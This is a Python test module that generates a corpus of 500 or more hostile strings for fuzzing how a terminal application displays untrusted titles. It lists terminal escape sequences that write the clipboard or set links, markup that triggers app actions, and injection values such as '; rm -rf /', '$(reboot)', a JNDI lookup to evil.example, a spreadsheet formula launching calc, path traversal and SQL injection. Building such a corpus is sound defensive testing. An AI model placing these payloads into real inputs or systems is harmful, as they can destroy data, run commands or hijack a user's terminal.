"""Strings that a stranger could write into a market's title: five hundred and more, the same every time."""

# ruff: noqa: E501 - a corpus, not prose

from __future__ import annotations

import random
from typing import Final

ESC = "\x1b"

_SEQUENCES: Final = (
    # OSC: clipboard, title, palette, links, notifications, files
    "]52;c;UFdORUQ=\x07", "]52;c;UFdORUQ=\x1b\\", "]52;p;?\x07", "]0;owned\x07", "]2;owned\x1b\\", "]4;1;?\x07",
    "]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "]9;notify\x07", "]777;notify;a;b\x07", "]10;?\x07",
    "]1337;File=name=eA==:AAAA\x07", "]50;xterm\x07", "]133;A\x07", "]104\x07", "]7;file://evil/\x07",
    # CSI: screen, cursor, modes, reports, windows
    "[2J", "[H", "[2J\x1b[H", "[3J", "[?1049l", "[?1049h", "[?25l", "[?1000h", "[?1006h", "[?2004h", "[?2026h",
    "[6n", "[c", "[>c", "[=c", "[5n", "[21t", "[8;1;1t", "[3;0;0t", "[14t", "[18t", "[1;1r", "[!p", "[4l", "[20h",
    "[31m", "[7m", "[0m", "[38;5;196m", "[1000D", "[1000A", "[1000B", "[9999;9999H", "[2K", "[1P", "[4@", "[1M",
    "[5L", "[100X", "[100b", "[s", "[u", "[?1h", "[?3h", "[?5h", "[?7l", "[?47h", "[>4;2m", "[>1u", "[<u", "[?u",
    "[12l", "[?996n", "[?69h", '[62;1"p', "[1$r", "[2*y", "[0 q", "[?1;2c", "[M !!", "[<0;1;1M", "[200~x\x1b[201~",
    # DCS, APC, PM, SOS
    "P+q544e\x1b\\", "P$qm\x1b\\", "P1000p%exit\x1b\\", "Pq#0;2;0;0;0#0!99~\x1b\\", "_Gi=1,a=T;AAAA\x1b\\",
    "^private\x1b\\", "Xsos\x1b\\", "Ptmux;\x1b\x1b]52;c;QQ==\x07\x1b\\",
    # two characters and charsets
    "c", "7", "8", "D", "E", "H", "M", "N", "O", "Z", "=", ">", "#8", "(0", "(B", ")0", "%G", "%@", "n", "o", "|",
)  # fmt: skip

_MARKUP: Final = (
    "[@click=app.quit]Big odds[/]", "[@click='app.quit']x[/]", "[@click=app.bell]x[/]", "[@click=quit]x",
    "[@click=screen.dismiss]x[/]", "[@click=app.interrupt()]x[/]", "[@click=app.suspend_process]x[/]",
    "[@click=app.action_quit()]x[/]", "[@click=app.screenshot]x[/]", "[@click=app.push_screen('help')]x[/]",
    "[@click=app.copy_to_clipboard('x')]x[/]", "[@mouse.down=app.quit]x[/]", "[@key=app.quit]x[/]",
    "[/", "[/]", "[//]", "[/b]", "[b", "[b]bold[/b]", "[[", "]]", "[", "]", "\\[", "[\\", "[]", "[ ]", "[#]",
    "[link=https://evil.example]x[/link]", "[link='https://evil.example']x[/]", "[link]x", "[$primary]x[/]",
    "[red on blue]x[/]", "[blink]x[/]", "[reverse]x[/]", "[bold red]x[/bold red]", "[#ff0000]x[/]", "[auto]x[/]",
    "Trump [R] vs [D]", "a[0] = b[1]", "[1/2] to win", ":smile: :bomb:", "{title}", "{0}", "%s%s%s%n", "%(asctime)s",
    "$(reboot)", "`reboot`", "; rm -rf /", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>",
    "<b>bold</b>", "&lt;", "&#27;[2J", "\\x1b[2J", "\\u001b[2J", "\\033[2J", "^[[2J", "=cmd|' /C calc'!A0", "+1+1",
    "-1+1", "@SUM(1)", "../../../etc/passwd", "..\\..\\x", "file:///etc/passwd", "javascript:alert(1)", "NaN",
    "null", "undefined", "None", "true", "-1", "1e1000000", "0x1F", "' OR 1=1 --", '"', "'", "\\", "\\\\", "#", "~",
)  # fmt: skip

_UNICODE: Final = (
    # bidi
    "a\u202egnp.exe", "\u202dabc\u202c", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c", "YES \u202eON\u202c",
    # tags, zero width, invisible
    "ok\U000e0001\U000e0041\U000e007f", "p\u200bay\u200c \u200dme\u2060\ufeff", "pay\u00adpal", "\u180e\u180b",
    "a\u3164b\u115fc\u1160d\u2800e\uffa0f", "\u034f\u17b4\u17b5", "\u2061\u2062\u2063\u2064", "\ufff9a\ufffab\ufffb",
    # combining floods
    "Z" + "\u0300\u0323\u0489" * 400 + "algo", "\u0301\u0301title", "1\u20dd\u20dd\u20dd", "e" + "\u0301" * 1000,
    "\u0e01" + "\u0e47" * 60, "\u0c15" + "\u0c4d\u0c15" * 30, "\u0f40" + "\u0f71\u0f72" * 30,
    # surrogates, private use, noncharacters, unassigned
    "\ud800", "\udfff", "\ud83d", "\udc00\ud800", "a\ud800b\udfffc", "\ue000\uf8ff", "\U000f0000\U0010fffd",
    "\ufdd0\ufdef", "\ufffe\uffff", "\U0001fffe\U0010ffff", "\u2065\ufff0\U000e0fff", "\u0378\u0379", "\U0001faff",
    # emoji, joined, flagged, toned, keycapped
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001f1ea\U0001f1f8", "\U0001f1ea", "\U0001f1ea\U0001f1f8\U0001f1eb", "\U0001f44d\U0001f3fd", "\U0001f3fd",
    "1\ufe0f\u20e3", "\u2764\ufe0f", "\u2764\ufe0e", "\u00a9\ufe0f", "\u231a\u23f0\u26bd\u2705", "\U0001f9d1\u200d\u2695\ufe0f",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\u26f9\U0001f3fb\u200d\u2640\ufe0f",
    # width
    "\uff21\uff22\uff23", "\u65e5\u672c\u4e2d\u56fd", "\uac00\uac01", "\u1100\u1161\u11a8", "\u1100" * 9, "\u2e3a\u2e3b",
    "\ufdfd", "\U0001242b", "\u0bcc\u0bb5", "\ua9c5", "\u00b7\u2026\u2014", "\u2501\u2503\u256d\u256f", "\u2588\u2580\u2584",
    "\u3000\u2003\u00a0\u1680", "\u2028\u2029\u0085", "\u20a9\uffe6", "\u4dc0\u4dff", "\U0001f100", "\u303f", "\u2329\u232a",
    "\u3099\u309a", "\u302a", "\u0d0b\u0d57", "\u102b\u102c", "\u19b0", "\u1b44", "\ua8b4",
    # other scripts, forged ones
    "\u05e9\u05b8\u05dc\u05d5\u05b9\u05dd", "\u0645\u0631\u062d\u0628\u0627", "\u0928\u092e\u0938\u094d\u0924\u0947",
    "P\u0430ypal wins", "\u0410pple", "G\u043e\u043eg\u04cfe", "\U0001d400\U0001d401c", "\u13a0pple", "\u0391thens",
    "\ufb01\ufb02\ufb03", "\u2100\u2105", "\u33a1", "\u1e9e\u0130\u0131", "\U0001d173\U0001d17a", "\U0001bca0",
)  # fmt: skip

_LENGTHS: Final = (
    "x" * 10_000, "\u65e5" * 10_000, "\u0301" * 10_000, "\x1b[" * 5_000, "[" * 10_000, "[/" * 5_000, " " * 10_000,
    "\u202e" * 10_000, "\U0001f468\u200d" * 5_000, "W" * 511 + "\x1b[2J", "a" * 512 + "\x1b]52;c;QQ==\x07", "ab\n" * 3_000,
    "word " * 2_000, "\u00e9" * 513, "",  " ", "\t", "\n", "\r", "\r\n", "\0", "\0" * 600,
)  # fmt: skip


def strings(at_least: int = 500) -> list[str]:
    """The corpus: everything above, each control character, and mixtures drawn from a fixed seed."""
    found = [f"A{chr(code)}B" for code in (*range(0x20), *range(0x7F, 0xA0))]
    for body in _SEQUENCES:
        found.append(f"Up {ESC}{body} down")
        if body[0] in "]P_^X[":
            found.append(
                chr(ord(body[0]) + 0x40) + body[1:].replace("\x1b\\", "\x9c")
            )  # the same as one C1 character
    found += [*_MARKUP, *_UNICODE, *_LENGTHS]
    rng = random.Random(20260715)
    parts = [*(ESC + body for body in _SEQUENCES), *_MARKUP, *_UNICODE]
    while len(found) < at_least or len(found) < 700:
        found.append("".join(rng.choice(parts) for _ in range(rng.randint(2, 5))))
    return found


def travelling() -> list[str]:
    """Those that a UTF-8 wire can carry as they are; the others travel as JSON escapes."""
    return [text for text in strings() if not any(0xD800 <= ord(char) <= 0xDFFF for char in text)]
